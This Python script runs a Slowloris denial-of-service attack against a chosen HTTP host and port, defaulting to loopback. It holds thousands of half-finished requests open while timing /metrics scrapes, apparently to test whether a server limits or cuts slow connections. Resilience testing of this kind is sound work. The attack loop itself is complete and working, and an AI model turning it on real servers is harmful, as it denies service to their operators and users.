#!/usr/bin/env python3
"""Slowloris against an HTTP server, and scrapes from another client beside it.

    slowloris.py PORT [--host 127.0.0.1] [--attack-from 127.0.0.3] [--connections 2000]
                 [--every 5] [--hold 30] [--scrape-from 127.0.0.2] [--scrapes 20]
                 [--scrape-every 1] [--scrape-timeout 5]

Opens CONNECTIONS connections from ATTACK_FROM (a loopback address: all of
127/8 is this machine on Linux), each sending a request line and then one
header line every EVERY seconds, never the blank line that ends a request.
Once they are open, it scrapes /metrics from SCRAPE_FROM every SCRAPE_EVERY
seconds, SCRAPES times, and keeps the attack up for HOLD seconds in all.
Prints key=value lines:

    attack_open=N          connections whose connect succeeded
    attack_refused=N       of those, closed by the server within 1 s (a connection limit)
    attack_cut=N           closed later while held (a bound on the request's time)
    attack_cut_median_s=S  how long a cut one lived (0 when none was)
    attack_cut_max_s=S
    scrapes=N answered_1s=N answered=N max_s=S   scrapes answered 200 within 1 s, at all, slowest
Needs only python3.
"""
import argparse
import errno
import resource
import selectors
import socket
import statistics
import sys
import time


def raise_fd_limit(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, need + 64)) if hard != resource.RLIM_INFINITY else need + 64
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def open_attack(host, port, source, n, deadline):
    """Non-blocking connects, all at once; those done by the deadline count,
    each with the moment its connect was seen done (the server's clock on it
    starts about then, not when the last of them is done)."""
    sel = selectors.DefaultSelector()
    pending = 0
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((source, 0))
        rc = s.connect_ex((host, port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            continue
        sel.register(s, selectors.EVENT_WRITE)
        pending += 1
    opened = []
    while pending and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=max(0.0, deadline - time.monotonic())):
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                opened.append((s, time.monotonic()))
            else:
                s.close()
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    sel.close()
    return opened


def send_line(s, line):
    try:
        s.send(line)
        return True
    except (BlockingIOError, InterruptedError):
        return True
    except OSError:
        return False


def peer_closed(s):
    try:
        data = s.recv(4096)
        return data == b""  # EOF; an answer (408, 431) means the server gave up too
    except (BlockingIOError, InterruptedError):
        return False
    except OSError:
        return True


def scrape(host, port, source, timeout):
    """One GET /metrics from source: (status line ok, seconds)."""
    t0 = time.monotonic()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(timeout)
            s.bind((source, 0))
            s.connect((host, port))
            s.sendall(b"GET /metrics HTTP/1.0\r\nHost: x\r\n\r\n")
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
        return data.startswith(b"HTTP/1.") and b" 200 " in data.split(b"\r\n", 1)[0], time.monotonic() - t0
    except OSError:
        return False, time.monotonic() - t0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("port", type=int)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--attack-from", default="127.0.0.3")
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--every", type=float, default=5.0)
    ap.add_argument("--hold", type=float, default=30.0)
    ap.add_argument("--scrape-from", default="127.0.0.2")
    ap.add_argument("--scrapes", type=int, default=20)
    ap.add_argument("--scrape-every", type=float, default=1.0)
    ap.add_argument("--scrape-timeout", type=float, default=5.0)
    a = ap.parse_args()
    raise_fd_limit(a.connections)

    start = time.monotonic()
    opened = open_attack(a.host, a.port, a.attack_from, a.connections, start + 10)
    conns = [s for s, _ in opened]
    born = dict(opened)
    for s in conns:
        send_line(s, b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    alive = set(conns)
    lives = []
    end = time.monotonic() + a.hold
    next_line = time.monotonic() + a.every
    next_scrape = time.monotonic() + 0.5
    results = []
    while time.monotonic() < end:
        now = time.monotonic()
        for s in list(alive):
            if peer_closed(s):
                alive.discard(s)
                lives.append(now - born[s])
        if now >= next_line:
            for s in list(alive):
                if not send_line(s, b"X-Slow: 1\r\n"):
                    alive.discard(s)
                    lives.append(now - born[s])
            next_line = now + a.every
        if len(results) < a.scrapes and now >= next_scrape:
            results.append(scrape(a.host, a.port, a.scrape_from, a.scrape_timeout))
            next_scrape = time.monotonic() + a.scrape_every
        time.sleep(0.05)
    for s in conns:
        s.close()

    answered = [t for ok, t in results if ok]
    cut = [t for t in lives if t >= 1.0]
    print(f"attack_open={len(conns)}")
    print(f"attack_refused={len(lives) - len(cut)}")
    print(f"attack_cut={len(cut)}")
    print(f"attack_cut_median_s={statistics.median(cut) if cut else 0:.2f}")
    print(f"attack_cut_max_s={max(cut) if cut else 0:.2f}")
    print(f"scrapes={len(results)} answered_1s={sum(1 for t in answered if t <= 1.0)} "
          f"answered={len(answered)} max_s={max((t for _, t in results), default=0):.3f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
